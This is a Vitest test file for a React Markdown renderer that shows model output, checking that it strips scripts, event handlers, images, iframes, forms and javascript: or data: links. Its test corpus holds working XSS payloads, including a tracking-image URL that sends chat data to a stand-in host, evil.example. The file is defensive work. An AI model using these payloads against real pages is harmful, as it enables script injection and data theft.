// Model output never becomes markup that runs or loads anything (ARCHITECTURE 9.10): no raw HTML
// elements, no javascript: links, no images; links open in a new tab without a referrer.
import { cleanup, render } from '@testing-library/react';
import { afterEach, describe, expect, it } from 'vitest';
import { MarkdownContent, nestsTooDeep } from './markdown-content';

afterEach(cleanup);

const CORPUS = [
  '<script>window.__xss = 1</script>',
  '<img src=x onerror="window.__xss=1">',
  '![tracker](https://evil.example/pixel.png?chat=secret)',
  '[click](javascript:window.__xss=1)',
  '<a href="jAvAsCrIpT:window.__xss=1">hi</a>',
  '[mixed](JaVaScRiPt:alert(1))',
  '[data](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)',
  '<iframe src="https://evil.example"></iframe>',
  '<svg onload="window.__xss=1"><circle r="5"/></svg>',
  '<div onmouseover="window.__xss=1">hover</div>',
  '<style>body{display:none}</style>',
  '<form action="https://evil.example"><input name="q"></form>',
  '[ref]: javascript:alert(1)\n\n[ref link][ref]',
  '<object data="x.swf"></object><embed src="x.swf">',
  '```html\n<script>alert(1)</script>\n```',
].join('\n\n');

describe('MarkdownContent', () => {
  it('renders no script, image, iframe, svg, object, embed, style or form element and no event handler', () => {
    const { container } = render(<MarkdownContent>{CORPUS}</MarkdownContent>);
    for (const tag of ['script', 'img', 'iframe', 'svg', 'object', 'embed', 'style', 'form', 'input']) {
      expect(container.querySelectorAll(tag), tag).toHaveLength(0);
    }
    for (const element of container.querySelectorAll('*')) {
      for (const attribute of element.getAttributeNames())
        expect(attribute.startsWith('on'), `${element.tagName} ${attribute}`).toBe(false);
    }
  });

  it('leaves no javascript: or data: link', () => {
    const { container } = render(<MarkdownContent>{CORPUS}</MarkdownContent>);
    for (const link of container.querySelectorAll('a')) {
      const href = (link.getAttribute('href') ?? '').trim().toLowerCase();
      expect(href.startsWith('javascript:') || href.startsWith('data:'), href).toBe(false);
    }
  });

  it('shows code blocks as text', () => {
    const { container } = render(<MarkdownContent>{'```html\n<script>alert(1)</script>\n```'}</MarkdownContent>);
    expect(container.querySelector('pre code')?.textContent).toContain('<script>alert(1)</script>');
  });

  it('turns an image into a link to it, so nothing loads by itself', () => {
    const { container } = render(<MarkdownContent>{'![chart](https://example.com/chart.png)'}</MarkdownContent>);
    const link = container.querySelector('a');
    expect(container.querySelector('img')).toBeNull();
    expect(link?.getAttribute('href')).toBe('https://example.com/chart.png');
    expect(link?.textContent).toBe('[Image: chart]');
  });

  it('opens links in a new tab without opener or referrer', () => {
    const { container } = render(<MarkdownContent>{'See [the docs](https://example.com/docs).'}</MarkdownContent>);
    const link = container.querySelector('a');
    expect(link?.getAttribute('target')).toBe('_blank');
    expect(link?.getAttribute('rel')).toBe('noopener noreferrer nofollow');
  });

  it('renders markdown: lists, emphasis, tables (GFM)', () => {
    const { container } = render(
      <MarkdownContent>{'**Goal**\n\n1. One\n2. Two\n\n| a | b |\n|---|---|\n| 1 | 2 |'}</MarkdownContent>,
    );
    expect(container.querySelector('strong')?.textContent).toBe('Goal');
    expect(container.querySelectorAll('ol li')).toHaveLength(2);
    expect(container.querySelector('table td')?.textContent).toBe('1');
  });

  it('keeps single line breaks inside a paragraph, but not inside code', () => {
    const { container } = render(
      <MarkdownContent>{'Goal Summary\nReach 20 swaps.\n\n```\na\nb\n```'}</MarkdownContent>,
    );
    expect(container.querySelectorAll('p br')).toHaveLength(1);
    expect(container.querySelector('pre')?.textContent).toBe('a\nb\n');
  });

  it('breaks every line of a paragraph or a list item, around emphasis too, and leaves inline code as written', () => {
    const { container } = render(<MarkdownContent>{'One\n**Two**\nThree `x\ny`\n\n- item\n  more'}</MarkdownContent>);
    const paragraph = container.querySelector('p');
    const shown = [...(paragraph?.childNodes ?? [])].filter(
      (node) => node.nodeName !== '#text' || node.textContent?.trim(),
    );
    expect(shown.map((node) => node.nodeName)).toEqual(['#text', 'BR', 'STRONG', 'BR', '#text', 'CODE']);
    expect(paragraph?.querySelectorAll('br')).toHaveLength(2);
    expect(paragraph?.querySelector('strong')?.textContent).toBe('Two');
    // A line ending inside a code span is a space (CommonMark), never a break.
    expect(paragraph?.querySelector('code')?.textContent).toBe('x y');
    expect(container.querySelectorAll('li br')).toHaveLength(1);
    expect(container.querySelector('li')?.textContent).toBe('item\nmore');
  });
});

describe('MarkdownContent on text nested thousands deep', () => {
  it('shows the text as written when it nests deeper than any note, and Markdown nested less deeply as usual', () => {
    const deep = `${'>'.repeat(10_000)} quoted`;
    const { container } = render(<MarkdownContent>{`${deep}`}</MarkdownContent>);
    expect(container.querySelector('blockquote')).toBeNull();
    expect(container.textContent).toBe(deep);
    cleanup();
    const { container: shallow } = render(<MarkdownContent>{'>> quoted'}</MarkdownContent>);
    expect(shallow.querySelectorAll('blockquote')).toHaveLength(2);
  });

  it('knows nesting no note needs before parsing it', () => {
    expect(nestsTooDeep(`text\n${'> '.repeat(64)}deep enough`)).toBe(false);
    expect(nestsTooDeep(`text\n${'> '.repeat(65)}too deep`)).toBe(true);
    expect(nestsTooDeep(`${' '.repeat(300)}- item`)).toBe(true);
    expect(nestsTooDeep('a > b >> c')).toBe(false);
  });
});
